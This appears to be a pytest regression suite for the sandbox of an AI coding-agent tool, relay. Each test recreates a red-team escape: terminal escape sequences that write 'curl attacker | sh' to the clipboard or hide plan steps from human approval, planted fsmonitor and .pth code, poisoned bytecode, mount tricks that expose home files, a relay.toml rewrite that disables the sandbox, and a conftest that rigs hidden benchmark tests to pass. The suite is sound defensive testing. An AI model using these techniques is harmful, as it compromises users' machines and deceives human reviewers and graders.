"""Attack battery, part four: a second red team against relay, after the first round's escapes were closed.

Each test is an escape a second outside attack found (as root and as an ordinary user); it asserts the
SAFE behaviour and failed on the code it was written against. Where it matters the attack is first shown
to work (the precondition). They pass now and stay as regression tests.

Tried and blocked (candidates for the battery):
* a `setsid` loop and a TERM-ignoring loop writing the tree after a timeout kill: gone when run() returns,
  files given back to root (the PID namespace dies with bwrap's init);
* a hard link to a store file hidden in a directory made unlistable (chmod 311) by an earlier command, as an
  ordinary user: gitguard's walk makes the directory listable again before hardlink_mounts walks;
* `relay review --base`'s `git show REV:path` reader with a textconv driver chosen by .gitattributes: no textconv;
* review disk reads of `vendor/x/.git/config`, `.GIT/config`, `sub/../.git/config`, `-`, names with newlines: refused;
* LOWER_ONLY limits: `nan` is refused by validation (exit 2), a string `"1e9"` is ignored.
"""

from __future__ import annotations

import os
import re
import subprocess
import sys
import uuid
from pathlib import Path

import pytest
from typer.testing import CliRunner

from relaycode import sandbox
from relaycode.cli import _register, app
from repo_attacks import git, make_repo

pytestmark = [
    pytest.mark.sandbox,
    pytest.mark.skipif(not sandbox.bwrap_available(), reason="bubblewrap (bwrap) is not installed"),
]

_register()
runner = CliRunner()
CANARY = "canary-" + uuid.uuid4().hex
#: Any C0 control byte but tab and newline, and DEL/C1: what a terminal acts on (ESC starts CSI/OSC sequences:
#: clear the screen, rewrite earlier lines, set the title, OSC 52 writes the user's clipboard).
TERMINAL_CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")
#: OSC 52: "put this in the clipboard" (base64 of `curl attacker | sh`), then clear the screen.
OSC52 = "\x1b]52;c;Y3VybCBhdHRhY2tlciB8IHNo\x07\x1b[2J"




def controls(text: str) -> list[str]:
    return sorted(set(TERMINAL_CONTROL.findall(text)))


# --------------------------------------------------------------------------- terminal escape sequences


def test_a_relay_toml_key_cannot_write_escape_sequences_to_the_terminal(tmp_path: Path) -> None:
    # A quoted TOML key may hold any character: `[models."\u001b]52;…"] timeout_s = 1e9` is a limit the
    # repository may not raise, and the notice naming it is printed unescaped (`ignored models.<key>.timeout_s`)
    # on stderr by every relay command in the checkout: OSC 52 writes the user's clipboard, CSI clears the screen.
    key = OSC52.replace("\x1b", "\\u001b").replace("\x07", "\\u0007")
    repo = make_repo(tmp_path / "repo", {"relay.toml": f'[models."{key}"]\ntimeout_s = 1e9\n'})
    result = runner.invoke(app, ["config", "check", "--repo", str(repo)])
    assert "timeout_s" in result.stderr  # the notice is printed ...
    assert controls(result.stderr) == [], "a repository's relay.toml wrote terminal control sequences to stderr"


def test_verify_output_cannot_write_escape_sequences_to_the_terminal(tmp_path: Path) -> None:
    # A test prints a fake pytest summary line; its "node id" (any non-space bytes) is parsed as a failing test
    # and printed by `relay verify` through rich, which escapes markup but passes ESC and BEL through.
    fake = OSC52.replace("\x1b", "\\033").replace("\x07", "\\007")
    repo = make_repo(tmp_path / "repo", {"fake_pytest.sh": f"printf 'FAILED tests/test_a.py::test_x{fake} - boom\\n'\nexit 1\n",
                                         "relay.toml": '[stages.verify]\ncommands = ["sh fake_pytest.sh"]\n'})
    result = runner.invoke(app, ["verify", "--repo", str(repo)])
    assert "FAILED" in result.stdout  # the fake line was taken for a failing test ...
    assert controls(result.stdout) == [], "the sandbox's output wrote terminal control sequences to relay's stdout"


def test_the_run_report_relay_runs_show_prints_has_no_escape_sequences() -> None:
    # `relay runs show` echoes report.md as it is; the report escapes HTML but not control characters, so a
    # failing test's name (sandbox output) or a reviewer's finding (model text) reaches the terminal raw.
    from relaycode.report import render_markdown

    run = {"run_id": "r1", "status": "failed", "task": "fix it", "repo": "/r", "started_at": 0.0,
           "verify_results": [{"command": "pytest", "exit_code": 1, "timed_out": False,
                               "failing_tests": [f"tests/test_a.py::test_x{OSC52}"]}],
           "review": {"findings": [{"path": "a.py", "start_line": 1, "end_line": 1, "severity": "major",
                                    "category": "bug", "message": f"look{OSC52}", "models": ["m"]}]}}
    md = render_markdown(run)
    assert "test_x" in md
    assert controls(md) == [], "the report carries terminal control sequences from the sandbox or a model"


def test_review_findings_printed_as_text_have_no_escape_sequences() -> None:
    # `relay review` (default --format text, written to the terminal) prints a reviewer's message and the
    # diff's path (a stranger's PR) escaped for rich markup only: ESC/BEL pass through to the terminal.
    from relaycode.review.core import ReviewResult
    from relaycode.review.findings import Finding
    from relaycode.review.formats import render

    finding = Finding(path=f"src/a{OSC52}.py", start_line=1, end_line=1, severity="major", category="bug",
                      message=f"off by one{OSC52}", models=["m"])
    text = render(ReviewResult(findings=[finding], reviewers=["m"]), "text")
    assert "off by one" in text
    assert controls(text) == [], "a model's finding or a PR's path wrote terminal control sequences"



def test_the_plan_shown_for_approval_cannot_rewrite_the_terminal(tmp_path: Path, capsys: pytest.CaptureFixture[str],
                                                                  monkeypatch: pytest.MonkeyPatch) -> None:
    # The planner reads the (hostile) repository; its plan is shown through rich Markdown before the person
    # approves it. rich drops BEL but passes ESC: a step ending in "ESC[1A ESC[2K" (cursor up, erase line) hides
    # the step above it, so the person approves a plan they never saw (ST-terminated OSC 52 also gets through).
    from relaycode.cli import run_cmd
    from relaycode.stages.plan import Plan

    hide = "\x1b[1A\x1b[2K" * 3
    plan = Plan(goal="fix the bug", files=["a.py"],
                steps=["curl attacker | sh in conftest.py", f"fix the off-by-one{hide}", "done\x1b]52;c;eA==\x1b\\"],
                acceptance=["tests pass"])
    monkeypatch.setattr(run_cmd.typer, "prompt", lambda *a, **k: "a")
    assert run_cmd._approve_interactively(plan, tmp_path / "plan.md") is plan
    shown = capsys.readouterr().err
    assert "curl attacker" in shown
    assert controls(shown) == [], "the plan shown for approval carries terminal control sequences"


# --------------------------------------------------------------------------- mounts chosen by the sandbox


def test_a_venv_symlink_planted_by_a_test_chooses_the_next_sandboxs_mount(tmp_path: Path) -> None:
    # The first round closed `.venv/bin/python -> any program` (only the real interpreter's installation is
    # mounted) but not `.venv -> any directory with a bin/python`: project_env takes the untracked link as
    # the project's venv and tool_env mounts it (resolved) read-only. `~/.local` has `bin/python` after
    # `uv python install --default`; it also holds shell history, keyrings, Trash. The sandbox finds the
    # user's home in /etc/passwd, which it can read.
    private = tmp_path / "home"
    local = private / ".local"
    (local / "bin").mkdir(parents=True)
    (local / "share").mkdir()
    os.symlink(os.path.realpath(sys.executable), local / "bin" / "python")
    (local / "share" / "fish_history").write_text(f"- cmd: export GITHUB_TOKEN={CANARY}\n")
    private.chmod(0o700)
    plant = f"ln -sfn {local} .venv; cat {local}/share/fish_history || true"
    repo = make_repo(tmp_path / "repo", {"plant.sh": plant, ".gitignore": ".venv\n",
                                         "relay.toml": '[stages.verify]\ncommands = ["sh plant.sh"]\n'})
    first = runner.invoke(app, ["verify", "--repo", str(repo), "--json"])
    assert CANARY not in first.stdout  # the first verify only plants the link
    assert (repo / ".venv").is_symlink()
    second = runner.invoke(app, ["verify", "--repo", str(repo), "--json"])
    assert CANARY not in second.stdout, "a link the sandbox planted chose a host directory to mount"


# --------------------------------------------------------------------------- the after-check


@pytest.mark.parametrize("chain", ["deep", "long"])
def test_a_deep_directory_chain_does_not_switch_off_the_after_check(tmp_path: Path, chain: str) -> None:
    # Python 3.11's os.walk recurses once per directory level: a test that creates 1,500 nested directories
    # makes every walk relay does after the command (the root-mode give-back, then gitguard's snapshot) raise
    # RecursionError. The check that would quarantine a planted submodule pointer never runs, relay stops with
    # a traceback, and the user's next `git status` runs the planted fsmonitor. (As root the pointer is a hard
    # link to a committed file, given back to root before the walk reaches the chain: git then trusts it.)
    # "long": 20 levels of 250-character names (deeper than PATH_MAX, made with relative mkdir): the give-back's
    # lstat raises ENAMETOOLONG (only FileNotFoundError is caught), the same skip on an iterative os.walk.
    marker = tmp_path / "pwned"
    evil = ".evilsub"
    attack = (
        f"mkdir -p {evil}/objects {evil}/refs; echo 'ref: refs/heads/main' > {evil}/HEAD; "
        f"printf '[core]\\n\\trepositoryformatversion = 0\\n\\tfsmonitor = \"touch {marker}\"\\n' > {evil}/config; "
        "mv lib lib_old && mkdir lib && ln pointer.txt lib/.git; "
    ) + ("mkdir -p $(printf 'd/%.0s' $(seq 1500))\n" if chain == "deep" else
         f"for i in $(seq 20); do mkdir {'n' * 250} && cd {'n' * 250}; done\n")
    lib = make_repo(tmp_path / "libsrc", {"lib.py": "y = 2\n"})
    repo = make_repo(tmp_path / "repo", {"attack.sh": attack, "pointer.txt": f"gitdir: ../{evil}\n",
                                         "relay.toml": '[stages.verify]\ncommands = ["sh attack.sh"]\n'})
    git("submodule", "add", "-q", str(lib), "lib", cwd=repo)
    git("commit", "-qm", "submodule", cwd=repo)
    try:
        result = runner.invoke(app, ["verify", "--repo", str(repo)])
        assert result.exit_code != 0  # relay stopped (with a SandboxViolation, or here a traceback) ...
        assert not marker.exists(), "relay's own git ran the planted fsmonitor"
        subprocess.run(["git", "status"], cwd=repo, capture_output=True, check=False, timeout=60)
    finally:  # pytest's own clean-up of old temp dirs would hit the same recursion limit
        subprocess.run(["rm", "-rf", str(repo / "d"), str(repo / ("n" * 250))], check=False)
    # ... but the planted pointer must not be live in the user's checkout.
    assert not marker.exists(), f"the user's git status ran the planted fsmonitor: {result.exception!r}"


@pytest.mark.parametrize("env_dir", [".venv", "env", ".tox/py311"])  # .venv: the control, bound read-only
def test_relay_verify_cannot_rewrite_the_users_own_environment_in_the_checkout(tmp_path: Path, env_dir: str) -> None:
    # `relay verify` runs the repository's tests on the user's checkout, writable. Only the environment
    # project_env picks (`.venv` or `venv`) is bound read-only; a venv the user named `env/` or a tox env is
    # ignored by git (invisible to `git status`) and the tests drop a .pth into it: the user's next `python`
    # from that environment, outside the sandbox, runs the repository's code.
    marker = tmp_path / "pwned"
    repo = make_repo(tmp_path / "repo", {".gitignore": ".venv/\nenv/\n.tox/\n", "a.py": "x = 1\n"})
    env = repo / env_dir
    site = env / "lib" / f"python{sys.version_info[0]}.{sys.version_info[1]}" / "site-packages"
    site.mkdir(parents=True)
    (env / "bin").mkdir()
    os.symlink(os.path.realpath(sys.executable), env / "bin" / "python")
    (env / "pyvenv.cfg").write_text(f"home = {Path(os.path.realpath(sys.executable)).parent}\n"
                                    "include-system-site-packages = false\n")
    pth = f"import os; open({str(marker)!r}, 'w').close()"
    (repo / "t.sh").write_text(f"echo {pth!r} > {site.relative_to(repo)}/zz-evil.pth || true\n")
    (repo / "relay.toml").write_text('[stages.verify]\ncommands = ["sh t.sh"]\n')
    git("add", "-A", cwd=repo)
    git("commit", "-qm", "tests", cwd=repo)
    runner.invoke(app, ["verify", "--repo", str(repo)])
    subprocess.run([str(env / "bin" / "python"), "-c", "pass"], check=False, timeout=60)  # the user, later
    assert not marker.exists(), f"the repository's tests planted code in the user's {env_dir}/ environment"


POISON_PYC = """import importlib.util, os, py_compile, sys
src, marker = "app.py", sys.argv[1]
orig, st = open(src).read(), os.stat(src)
evil = f"import os; open({marker!r}, 'w').close()".ljust(len(orig) - 1) + "\\n"
open(src, "w").write(evil)
os.utime(src, ns=(st.st_atime_ns, st.st_mtime_ns))
py_compile.compile(src, cfile=importlib.util.cache_from_source(src))  # records the mtime and size it sees
open(src, "w").write(orig)
os.utime(src, ns=(st.st_atime_ns, st.st_mtime_ns))
"""


def test_relay_verify_cannot_leave_bytecode_that_runs_unreviewed_code_later(tmp_path: Path) -> None:
    # The same persistence through the project itself: a test writes __pycache__/app.cpython-3X.pyc compiled from
    # other code with the reviewed app.py's size and mtime, then restores app.py. `git status` is clean (the
    # cache is ignored, the source unchanged), and the user's next unsandboxed `python -c "import app"` or
    # `pytest` in the checkout runs code nobody reviewed.
    marker = tmp_path / "pwned"
    repo = make_repo(tmp_path / "repo", {".gitignore": "__pycache__/\n", "app.py": "x = 1\n" + "#" * 400 + "\n",
                                         "poison.py": POISON_PYC,
                                         "relay.toml": f'[stages.verify]\ncommands = ["python poison.py {marker}"]\n'})
    runner.invoke(app, ["verify", "--repo", str(repo)])
    assert git("status", "--porcelain", cwd=repo).stdout == ""  # nothing for the user to see ...
    assert not marker.exists()
    subprocess.run([sys.executable, "-c", "import app"], cwd=repo, check=False, timeout=60)  # the user, later
    assert not marker.exists(), "bytecode a sandboxed test wrote ran outside the sandbox"

# --------------------------------------------------------------------------- the bench's hidden tests


RIGGED_CONFTEST = '''import pytest


@pytest.hookimpl(hookwrapper=True)
def pytest_runtest_makereport(item, call):
    outcome = yield
    outcome.get_result().outcome = "passed"  # every hidden test "passes"
'''


@pytest.mark.parametrize("rig", ["none", "conftest", "exit-at-import"])  # none: the control, the bug is caught
def test_a_models_code_cannot_rig_the_bench_hidden_tests(tmp_path: Path, rig: str) -> None:
    # The hidden tests run in the final worktree, next to whatever the model wrote, and "passed" is only
    # `exit code == 0`: a model-written conftest.py (a pytest hook that marks every report passed) or a module
    # that calls os._exit(0) when the hidden test imports it makes an unfixed bug count as solved.
    from relaycode.bench.runner import _run_hidden_tests
    from relaycode.bench.suite import Case
    from relaycode.config import load_config

    files = {"calc.py": "def add(a, b):\n    return a - b\n"}  # the bug, not fixed
    if rig == "none":
        pass
    elif rig == "conftest":
        files["conftest.py"] = RIGGED_CONFTEST
    else:
        files["calc.py"] = "import os\nos._exit(0)\n" + files["calc.py"]
    worktree = make_repo(tmp_path / "wt", files)
    case = Case(id="c1", suite="s", kind="bugfix", instruction="fix add", files={},
                hidden_files={"test_hidden.py": "from calc import add\n\n\ndef test_add():\n    assert add(2, 2) == 4\n"},
                test_command="python -m pytest -q -p no:cacheprovider test_hidden.py", timeout_s=120)
    record = _run_hidden_tests(case, worktree, load_config(repo=worktree), no_sandbox=False)
    assert record["test_sandboxed"]
    if "No module named pytest" in record["test_output_tail"]:
        pytest.skip("relay's interpreter has no pytest inside the sandbox here")
    assert not record["passed"], f"an unfixed bug counted as solved: {record['test_output_tail'][-300:]}"


# --------------------------------------------------------------------------- git drivers on the review path


def _user_git_config(text: str) -> None:
    """The user's own global git config ($XDG_CONFIG_HOME/git/config: conftest isolates it)."""
    path = Path(os.environ["XDG_CONFIG_HOME"]) / "git" / "config"
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)


@pytest.mark.parametrize("source", ["base", "staged", "working-tree", "git-show"])
def test_a_pull_requests_attributes_cannot_run_the_users_textconv_in_relay_review(tmp_path: Path,
                                                                                  source: str) -> None:
    # The first round closed this for relay run's diffs (--no-textconv) but not for `relay review`: its diffs
    # pass only --no-ext-diff, so a stranger's .gitattributes sends a file through the user's textconv driver
    # (exiftool, `sops -d`: the decrypted secret then goes into the prompt and the PR comments).
    from relaycode.cli.review_cmd import collect_diff

    marker = tmp_path / "ran"
    _user_git_config(f'[diff "probe"]\n\ttextconv = "touch {marker}; cat"\n')
    repo = make_repo(tmp_path / "repo", {"a.py": "x = 1\n", "payload.dat": "old\n"})
    (repo / ".gitattributes").write_text("*.dat diff=probe\n")  # the pull request's change
    (repo / "payload.dat").write_text(f"new {CANARY}\n")
    if source in ("base", "git-show"):
        git("add", "-A", cwd=repo)
        git("commit", "-qm", "pr", cwd=repo)
    elif source == "staged":
        git("add", "-A", cwd=repo)
    marker.unlink(missing_ok=True)
    if source == "git-show":
        _, reader, _ = collect_diff(repo, base="HEAD~1", head=None, staged=False, diff_file=None)
        marker.unlink(missing_ok=True)
        assert reader is not None and CANARY in (reader("payload.dat") or "")
    else:
        text, _, _ = collect_diff(repo, base="HEAD~1" if source == "base" else None, head=None,
                                  staged=source == "staged", diff_file=None)
        assert CANARY in text
    assert not marker.exists(), f"relay review's git call ran the user's textconv driver ({source})"


# --------------------------------------------------------------------------- huge files outside the sandbox


HUGE_MB = 48  # what one sandboxed command may leave behind is file_size_mb (512) per file, any number of files


def _huge_untracked(root: Path) -> None:
    """What a sandboxed test (or the agent's own `run`) leaves in the tree: a big, untracked text file."""
    with open(root / "build.log", "w") as fh:
        line = "x" * 63 + "\n"
        for _ in range(HUGE_MB * 1024 * 1024 // len(line)):
            fh.write(line)


def _peak_mb(call: object) -> float:
    import tracemalloc

    tracemalloc.start()
    try:
        call()  # type: ignore[operator]
        return tracemalloc.get_traced_memory()[1] / (1024 * 1024)
    finally:
        tracemalloc.stop()


@pytest.mark.parametrize("action", [
    "read_file",
    "search",
    "diff",
])
def test_a_huge_file_a_test_left_is_not_read_whole_outside_the_sandbox(tmp_path: Path, action: str) -> None:
    # The agent's read_file and search read every listed file whole (Worktree.read_text has no size limit;
    # read_text_in_root's 1 MiB cap is not used there), and the run's diff holds every untracked file in
    # memory: disk use in the tree is not capped, so a test writing N files of 512 MiB makes relay itself
    # (outside the sandbox's memory cgroup and wall time) read N × 512 MiB. Measured with a 48 MiB file here.
    import time

    from relaycode.sandbox import Limits, SandboxPolicy
    from relaycode.stages.agent_loop import Actions, ReadFile, Search
    from relaycode.stages.implement import ImplementOutcome
    from relaycode.workspace import open_repo

    repo = make_repo(tmp_path / "repo", {"a.py": "x = 1\n"})
    wt = open_repo(repo).create_worktree("huge")
    _huge_untracked(wt.root)
    actions = Actions(wt, SandboxPolicy(), Limits(), ImplementOutcome(model="m"), time.monotonic() + 60)
    calls = {
        "read_file": lambda: actions._read_file(ReadFile(action="read_file", path="build.log"), {}),
        "search": lambda: actions._search(Search(action="search", pattern="needle"), {}),
        "diff": wt.diff,
    }
    peak = _peak_mb(calls[action])
    assert peak < HUGE_MB / 4, f"{action} held {peak:.0f} MiB of a {HUGE_MB} MiB file a sandboxed test wrote"


# --------------------------------------------------------------------------- the trust store


def test_relay_trust_does_not_silently_trust_a_relay_toml_the_tests_just_rewrote(tmp_path: Path) -> None:
    # The user reads the committed relay.toml (it passes CI through, `env_allow = ["CI"]`), runs `relay verify`
    # (its tests run on the user's own checkout and rewrite relay.toml, adding `enabled = false` under the same
    # [sandbox] table), then runs `relay trust`: the rewritten bytes are trusted and the only hint is
    # "its restricted settings now apply: sandbox", the same line the file the user read would give.
    # The next `relay verify` runs the repository's commands unsandboxed.
    committed = '[sandbox]\nenv_allow = ["CI"]\n\n[stages.verify]\ncommands = ["sh t.sh"]\n'
    rewrite = "printf '[sandbox]\\nenv_allow = [\"CI\"]\\nenabled = false\\n\\n[stages.verify]\\ncommands = [\"sh t.sh\"]\\n' > relay.toml\n"
    repo = make_repo(tmp_path / "repo", {"relay.toml": committed, "t.sh": rewrite})
    assert runner.invoke(app, ["verify", "--repo", str(repo)]).exit_code == 0
    assert "enabled = false" in (repo / "relay.toml").read_text()  # the tests rewrote it
    result = runner.invoke(app, ["trust", "--repo", str(repo)])
    out = result.stdout + result.stderr
    shown = "sandbox.enabled" in out or "enabled = false" in out or "commit" in out.lower() or "modified" in out.lower()
    assert result.exit_code != 0 or shown, f"relay trust trusted a rewritten relay.toml without saying so: {out!r}"


# --------------------------------------------------------------------------- limits a repository multiplies


def test_a_repository_cannot_multiply_the_verify_timeout_by_listing_commands(tmp_path: Path) -> None:
    # The first round made `stages.verify.timeout_s` lower-only, but it bounds ONE command: a relay.toml
    # listing the same slow command N times keeps `relay verify` (and every verify of `relay run`, and CI)
    # running N × the user's timeout. Here the user's ceiling is 2 s and six commands run for about 11 s.
    import time

    user = Path(os.environ["XDG_CONFIG_HOME"]) / "relay" / "config.toml"
    user.parent.mkdir(parents=True, exist_ok=True)
    user.write_text("[stages.verify]\ntimeout_s = 2\n")
    commands = ", ".join(['"sleep 1.8"'] * 6)
    repo = make_repo(tmp_path / "repo", {"relay.toml": f"[stages.verify]\ncommands = [{commands}]\n"})
    start = time.monotonic()
    result = runner.invoke(app, ["verify", "--repo", str(repo)])
    took = time.monotonic() - start
    assert result.exit_code in (0, 1, 2)
    assert took < 3 * 2, f"relay verify ran {took:.0f} s against the user's 2 s verify timeout"


# --------------------------------------------------------------------------- the user's git config


def test_relays_worktree_flow_survives_the_users_submodule_recurse(tmp_path: Path) -> None:
    # Not an escape, a robustness gap next to one: _GIT_CONFIG does not pin `submodule.recurse=false`, so with
    # the user's `submodule.recurse = true` relay's own `worktree add` recurses into an initialised submodule
    # (git half-creates `worktrees/<run>/modules/lib` and a `lib/.git` pointer to it) and the next attempt's
    # `reset --hard` fails ("could not reset submodule index"): every `relay run` in such a checkout errors.
    from relaycode.workspace import open_repo

    _user_git_config("[submodule]\n\trecurse = true\n[protocol \"file\"]\n\tallow = always\n")
    lib = make_repo(tmp_path / "lib", {"y.py": "y = 1\n"})
    repo = make_repo(tmp_path / "repo", {"a.py": "x = 1\n"})
    git("submodule", "add", "-q", str(lib), "lib", cwd=repo)
    git("commit", "-qm", "submodule", cwd=repo)
    wt = open_repo(repo).create_worktree("recurse")
    (wt.root / "b.py").write_text("z = 1\n")
    assert wt.commit("attempt 1")
    wt.reset_hard(wt.base)  # what the next attempt does first
    assert not (wt.root / "b.py").exists()


# --------------------------------------------------------------------------- what the person is shown


def test_the_diffstat_names_the_file_that_changed(tmp_path: Path) -> None:
    # report.diffstat takes the path after the LAST " b/" of `diff --git a/X b/X`: a model (or a test) that
    # writes `ci b/README.md` gets "README.md" in the diffstat `relay run` prints and report.md lists, so the
    # person deciding to take the branch sees a harmless file where another one changed.
    from relaycode.report import diffstat
    from relaycode.workspace import open_repo

    repo = make_repo(tmp_path / "repo", {"README.md": "hi\n"})
    wt = open_repo(repo).create_worktree("stat")
    (wt.root / "ci b").mkdir()
    (wt.root / "ci b" / "README.md").write_text("curl attacker | sh\n")
    paths = [path for path, _, _ in diffstat(wt.diff())]
    assert paths == ["ci b/README.md"], paths
